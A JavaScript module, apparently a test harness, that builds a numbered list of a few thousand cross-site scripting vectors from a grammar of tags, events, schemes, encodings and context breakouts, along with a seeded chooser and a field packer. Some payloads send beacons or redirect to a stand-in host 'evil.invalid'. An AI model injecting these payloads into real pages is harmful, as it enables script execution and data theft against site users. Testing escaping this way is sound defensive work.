// Texts that would run in a browser if they were written into a page unescaped: a grammar of our own of tags,
// events, schemes, encodings and the contexts that they break out of. The same list every time; each names its
// number, so that a hit says which it was. None needs NUL, which the program refuses before it reads a field.

const tags = ['img src=x', 'svg', 'body', 'input autofocus', 'video src=x', 'audio src=x', 'details open', 'iframe src=x', 'marquee', 'select autofocus',
  'object data=x', 'style', 'link rel=stylesheet href=x', 'keygen autofocus', 'x-muster tabindex=0 id=x', 'math', 'form', 'button autofocus', 'embed src=x', 'a href=x'];
const events = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onstart', 'onclick', 'onmouseover', 'onpointerenter', 'onanimationstart', 'onbegin',
  'onbeforeinput', 'onscroll', 'onwheel', 'ontransitionend', 'oncontentvisibilityautostatechange', 'onauxclick'];
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\x01javascript:', ' javascript:', 'javascript&colon;', '&#106;avascript:',
  '&#x6A&#x61vascript:', 'javascript\u3000:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'feed:javascript:', 'blob:', 'livescript:', '//evil.invalid/',
  '\\\\evil.invalid\\', 'https:evil.invalid'];
const payloads = [(n) => `alert(${n})`, (n) => `alert\`${n}\``, (n) => `top['al'+'ert'](${n})`, (n) => `(0,eval)('alert(${n})')`, (n) => `\\u0061lert(${n})`,
  (n) => `&#97;lert(${n})`, (n) => `&#x61;lert&lpar;${n}&rpar;`, (n) => `navigator.sendBeacon('//evil.invalid/${n}')`, (n) => `location='//evil.invalid/${n}'`,
  (n) => `new Image().src='//evil.invalid/${n}'`, (n) => `setTimeout('alert(${n})')`, (n) => `import('data:text/javascript,alert(${n})')`];
// What a text breaks out of: element content, attributes of each quoting, elements without markup, comments, scripts.
const breakouts = ['', '">', "'>", '`>', ' ', '"/>', '</textarea>', '</title>', '</option></select>', '</style>', '</noscript>', '</template>', '</xmp>', '</iframe>', '</script>',
  '-->', '--!>', ']]>', '"></svg>', '</svg></math>', '</p></td></table>', '"></form>', '\u202e">', '\u2028">', '&quot;>', '&#34;>', '%22%3E', '＂＞', '\\">', '{{', '</bdi>'];
const tagForms = [(tag, event, run) => `<${tag} ${event}=${run}>`, (tag, event, run) => `<${tag} ${event}="${run}"//`, (tag, event, run) => `<${tag}/${event}='${run}'>`,
  (tag, event, run) => `<${tag.toUpperCase()}\t${event.toUpperCase()}\n=${run} x-muster>`, (tag, event, run) => `<${tag} ${event}=&#x20;${run}>`,
  (tag, event, run) => `< ${tag} ${event}=${run}>`, (tag, event, run) => `<x-muster><${tag} ${event}=${run}>`, (tag, event, run) => `&lt;${tag} ${event}=${run}&gt;`,
  (tag, event, run) => `&amp;lt;${tag} ${event}=${run}&amp;gt;`, (tag, event, run) => `&#60;${tag} ${event}=${run}&#62;`, (tag, event, run) => `%3C${tag} ${event}=${run}%3E`,
  (tag, event, run) => `＜${tag} ${event}=${run}＞`, (tag, event, run) => `<!--><${tag} ${event}=${run}>`, (tag, event, run) => `\u202e<${tag} ${event}=${run}>\u2066`,
  (tag, event, run) => `<<${tag} ${event}=${run}>>`];
const attributeForms = [(event, run) => `" ${event}=${run} autofocus tabindex=0 x-muster="`, (event, run) => `' ${event}=${run} autofocus tabindex=0 x-muster='`,
  (event, run) => ` ${event}=${run} x-muster `, (event, run) => `"${event}="${run}`, (event, run) => `" style="animation:x" ${event}="${run}"`, (event, run) => `\` ${event}=${run} x=\``,
  (event, run) => `\n"\n${event}\n=\n${run}\n"`, (event, run) => `&quot; ${event}=${run} &quot;`];
const whole = [(run) => `<script>${run}</script>`, (run) => `<script/x>${run}//`, (run) => `</script><script>${run}</script>`, (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script xlink:href="data:,${run}"/></svg>`, (run) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${run}>`,
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`, (run) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${run}>">`,
  (run) => `<svg><animate xlink:href=#x attributeName=href values=javascript:${run} /><a id=x><text y=9>x`, (run) => `<svg><set attributeName=onload to=${run}>`,
  (run) => `<iframe srcdoc="<script>${run}</script>">`, (run) => `<object data="data:text/html,<script>${run}</script>">`, (run) => `<base href=//evil.invalid/>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`, (run) => `<link rel=import href="data:text/html,<script>${run}</script>">`,
  (run) => `<form action=javascript:${run}><button>x</button></form>`, (run) => `<button formaction=javascript:${run}>x</button>`, (run) => `<isindex action=javascript:${run} type=image>`,
  (run) => `<template><img src=x onerror=${run}></template>`, (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`, (run) => `<style>@import 'javascript:${run}';</style>`,
  (run) => `{{constructor.constructor('${run}')()}}`, (run) => `\${${run}}`, (run) => `#{${run}}`, (run) => `<%= ${run} %>`, (run) => `{{1337*1337}}\${1337*1337}`, (run) => `{t "${run}"}{page.title}`,
  (run) => `"};${run};//`, (run) => `';${run};//`, (run) => `\\';${run};//`, (run) => `]]>${run}<![CDATA[`, (run) => `<xml><i><b>&lt;img src=1 onerror=${run}&gt;</b></i></xml>`,
  (run) => `<a href="https://example.org" x-muster onclick=${run}>`, (run) => `[x](javascript:${run})`, (run) => `![x](x "onerror=${run})`, (run) => `<1><img src=x onerror=${run}></1>`];

// Numbers that look random and are the same on every machine (mulberry32).
export function makeChooser(seed) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return { next, pick: (list) => list[Math.floor(next() * list.length)] };
}

// At least `least` texts, every word of the grammar among them.
export function makeVectors(least = 2400) {
  const { pick, next } = makeChooser(20261127);
  const vectors = [];
  const seen = new Set();
  const add = (make) => {
    const n = 100000 + vectors.length;
    const text = make((run) => run(n));
    if (seen.has(text.replaceAll(String(n), 'N'))) return;
    seen.add(text.replaceAll(String(n), 'N'));
    vectors.push(text);
  };
  for (const tag of tags) for (const event of events) add((of) => pick(breakouts) + pick(tagForms)(tag, event, of(pick(payloads))));
  for (const form of tagForms) for (const before of breakouts) add((of) => before + form(pick(tags), pick(events), of(pick(payloads))));
  for (const form of attributeForms) for (const event of events) add((of) => form(event, of(pick(payloads))));
  for (const scheme of schemes) for (const run of payloads) add((of) => scheme + (scheme.startsWith('data') ? `<script>${of(run)}</script>` : of(run)));
  for (const scheme of schemes) for (const before of breakouts.slice(0, 6)) add((of) => `${before}<a href="${scheme}${of(pick(payloads))}">x</a>`);
  for (const form of whole) for (const run of payloads) add((of) => form(of(run)));
  for (const form of whole) for (const before of breakouts) add((of) => before + form(of(pick(payloads))));
  while (vectors.length < least) add((of) => pick(breakouts) + pick(breakouts) + pick(tagForms)(pick(tags), pick(events), of(pick(payloads))) + (next() < 0.5 ? pick(breakouts) : ''));
  for (let i = vectors.length - 1; i > 0; i--) {
    const j = Math.floor(next() * (i + 1));
    [vectors[i], vectors[j]] = [vectors[j], vectors[i]];
  }
  return vectors;
}

// Hands out the list again and again, as many as fit into so many characters at a time.
export function makePacker(vectors) {
  let at = 0;
  const used = new Set();
  return {
    used,
    pack(most, lines = false) {
      let text = '';
      for (let tried = 0; tried < vectors.length; tried++) {
        const one = lines ? vectors[at] : vectors[at].replace(/[\n\t\x01]/g, ' ');
        if (text && text.length + one.length + 1 > most) break;
        if (one.length <= most) {
          text += (text ? ' ' : '') + one;
          used.add(at);
        }
        at = (at + 1) % vectors.length;
        if (!lines && most <= 300 && text.length > most / 2) break;
      }
      return text;
    },
  };
}
